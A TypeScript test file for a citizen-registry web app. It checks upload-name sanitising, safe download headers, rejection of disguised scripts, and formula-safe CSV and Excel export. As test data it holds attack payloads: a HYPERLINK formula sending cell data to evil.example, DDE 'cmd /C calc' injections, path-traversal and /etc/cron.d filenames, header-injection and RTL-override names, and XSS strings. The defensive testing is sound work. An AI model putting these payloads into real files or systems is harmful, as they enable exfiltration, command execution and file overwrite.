import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import { PassThrough, Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import exceljs from "exceljs";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { auditModule } from "#audit";
import { exportsModule } from "#exports";
import { identityModule } from "#identity";
import { registryModule } from "#registry";
import { askCorrectionWithEvidence, bindRealName } from "../../src/citizens/contract.ts";
import { forgetAttempts, Phone, picture } from "../../src/citizens/fixtures.ts";
import { citizensModule } from "../../src/citizens/module.ts";
import { downloadEvidence } from "../../src/citizens/office-contract.ts";
import { addOfficer, signedIn, testSite, type Browser, type TestSite } from "../../src/identity/fixtures.ts";
import { localFileStore } from "../../src/platform/files/local.ts";
import type { DomainModule } from "../../src/platform/module.ts";
import { writeCsv } from "../../src/platform/sheets/index.ts";
import { exportPersons } from "../../src/registry/contract.ts";
import { addPerson, type AddedPerson } from "../../src/registry/fixtures.ts";

const modules: readonly DomainModule[] = [
  exportsModule(() => registryModule.handlers!),
  registryModule,
  auditModule,
  identityModule,
  citizensModule,
];
const VILLAGE = "433124110226";
const formulas = [
  '=HYPERLINK("http://evil.example/"&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
];

let site: TestSite;
let citizen: AddedPerson;
let foreign: AddedPerson;
let clerk: Browser;
beforeAll(async () => {
  site = await testSite({ modules, demo: true });
  citizen = await addPerson(site.owner, site.runtime, { name: "龙建平", phone: "13807440001", homeRegion: VILLAGE });
  foreign = await addPerson(site.owner, site.runtime, { name: "马玉兰", homeRegion: "622927101201" });
  for (const name of formulas) await addPerson(site.owner, site.runtime, { name, homeRegion: VILLAGE });
  const officer = await addOfficer(site.owner, { region: "433124", duties: ["county-clerk"] });
  clerk = await signedIn(site.server, officer.login);
});
beforeEach(() => forgetAttempts(site.owner));
afterAll(() => site.close());

const filesUnder = (folder: string) =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(folder, join(entry.parentPath, entry.name)));

async function signedInCitizen(): Promise<Phone> {
  await site.owner.query("UPDATE citizens.account SET person_id = NULL, name = NULL, bound_at = NULL");
  const phone = new Phone(site);
  await phone.enter(citizen.phone!);
  await phone.ask(bindRealName, { name: citizen.name, identity: citizen.identity });
  await phone.openPage();
  return phone;
}

describe("names of uploaded files", () => {
  const wicked = [
    "../../../../../../tmp/wengang-owned.png",
    "..\\..\\..\\wengang-owned.png",
    "/etc/cron.d/wengang-owned",
    "%2e%2e%2fwengang-owned.png",
    "wengang-owned.png\u0000.pdf",
    'x"; filename="wengang-owned.html',
    "证明\u202egnp.exe",
  ];

  test("name no place: each lies enciphered under a name of our own, and nothing is written beside", async () => {
    const { dataFolder } = site.runtime.config;
    const around = dirname(dataFolder);
    for (const name of wicked) {
      await forgetAttempts(site.owner);
      const phone = await signedInCitizen();
      const before = new Set(filesUnder(around));
      const wish = { field: "skills" as const, proposed: "电焊", reason: `学过电焊 ${name.length}` };
      const { status } = await phone.ask(askCorrectionWithEvidence, wish, { file: { name, bytes: picture.bytes } });
      const made = filesUnder(around).filter((path) => !before.has(path));
      expect(made.filter((path) => path.includes("owned") || path.includes(".."))).toEqual([]);
      if (status !== 200) continue;
      expect(
        made.every((path) => /files\/upload\/[0-9a-f-]{36}$/.test(path)),
        made.join(),
      ).toBe(true);
      for (const path of made) expect(readFileSync(join(around, path)).includes(picture.bytes)).toBe(false);
      await site.owner.query("DELETE FROM citizens.correction");
    }
  });

  test("come back as a file to be saved, under a name without path, quote or line end", async () => {
    for (const name of [wicked[0]!, wicked[1]!, wicked[3]!]) {
      await forgetAttempts(site.owner);
      const phone = await signedInCitizen();
      const wish = { field: "skills" as const, proposed: "电焊", reason: "学过电焊" };
      const { body } = await phone.ask(askCorrectionWithEvidence, wish, { file: { name, bytes: picture.bytes } });
      const url = downloadEvidence.path.replace(":correctionId", body.correctionId);
      const headers = { cookie: `wengang_session=${clerk.cookie}` };
      const answer = await site.server.inject({ method: "GET", url, headers });
      expect(answer.statusCode).toBe(200);
      const disposition = String(answer.headers["content-disposition"]);
      expect(disposition).toMatch(/^attachment; filename\*=UTF-8''[^"\r\n/\\]+$/);
      expect(decodeURIComponent(disposition.split("''")[1]!)).not.toMatch(/[/\\"\r\n]/);
      expect(answer.headers).toMatchObject({ "x-content-type-options": "nosniff", "cache-control": "no-store" });
      await site.owner.query("DELETE FROM citizens.correction");
    }
  });

  test("and their endings prove nothing: a page or a script that calls itself a picture is refused and not kept", async () => {
    const phone = await signedInCitizen();
    const before = filesUnder(site.runtime.config.dataFolder).length;
    const wish = { field: "skills" as const, proposed: "电焊", reason: "学过电焊" };
    for (const text of [
      "<script>alert(1)</script>",
      "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
      "MZ\u0090",
      "",
    ])
      expect(
        await phone.ask(askCorrectionWithEvidence, wish, { file: { name: "户口本.png", bytes: Buffer.from(text) } }),
      ).toMatchObject({ status: 422 });
    expect(filesUnder(site.runtime.config.dataFolder)).toHaveLength(before);
  });

  test("the store itself takes no key that leads out of its folder", async () => {
    const folder = mkdtempSync(join(tmpdir(), "wengang-store-"));
    try {
      writeFileSync(join(folder, "beside"), "secret");
      const store = localFileStore(join(folder, "files"), site.runtime.keys);
      for (const key of ["../beside", "a/../../beside", "/etc/passwd", "a//b", "A", "a\u0000b", "."]) {
        await expect(store.put(key, Readable.from(["x"]), 10), key).rejects.toThrow("not a file key");
        await expect(store.read(key), key).rejects.toThrow("not a file key");
        await expect(store.remove(key), key).rejects.toThrow("not a file key");
      }
      expect(readFileSync(join(folder, "beside"), "utf8")).toBe("secret");
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

describe("names of people that are formulas", () => {
  async function taken(query: Record<string, string>) {
    const text = new URLSearchParams({ purpose: "核对公式注入", ...query }).toString();
    return site.server.inject({
      method: "GET",
      url: `${exportPersons.path}?${text}`,
      headers: { cookie: `wengang_session=${clerk.cookie}` },
    });
  }

  test("go out in a workbook as text, and run nowhere", async () => {
    const answer = await taken({});
    expect(answer.statusCode).toBe(200);
    const book = new exceljs.Workbook();
    await book.xlsx.load(answer.rawPayload as unknown as Parameters<typeof book.xlsx.load>[0]);
    const texts: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined();
          expect(cell.hyperlink).toBeUndefined();
          texts.push(cell.text);
        }),
      ),
    );
    for (const name of formulas) expect(texts.map((text) => text.trim())).toContain(name.trim());
  });

  test("go out as plain text with an apostrophe before them, quoted as RFC 4180 says", async () => {
    const out = new PassThrough();
    const written = writeCsv(
      out,
      formulas.map((name) => [name, '他说："好"\n第二行']),
      { header: ["姓名", "备注"] },
    );
    const text = (await buffer(out)).toString();
    await written;
    for (const name of formulas) expect(text).toContain(`'${name.replaceAll('"', '""')}`);
    expect(text.split('"他说：""好""\n第二行"\r\n')).toHaveLength(formulas.length + 1);
  });

  test("an export tells of nobody outside the area, whatever its filter asks", async () => {
    const empty = await taken({ name: "没有此人此人" });
    for (const [field, value] of Object.entries({ name: foreign.name, region: "622927", text: foreign.identity })) {
      const answer = await taken({ [field]: value });
      expect(answer.body).not.toContain(foreign.personId);
      if (answer.statusCode !== 200) expect(answer.json().message).not.toContain(foreign.name);
      else {
        const book = new exceljs.Workbook();
        await book.xlsx.load(answer.rawPayload as unknown as Parameters<typeof book.xlsx.load>[0]);
        book.eachSheet((sheet) =>
          sheet.eachRow((row, at) => row.eachCell((cell) => expect(at > 2 && cell.text === foreign.name).toBe(false))),
        );
      }
    }
    expect(empty.statusCode).toBe((await taken({ name: foreign.name })).statusCode);
  });
});
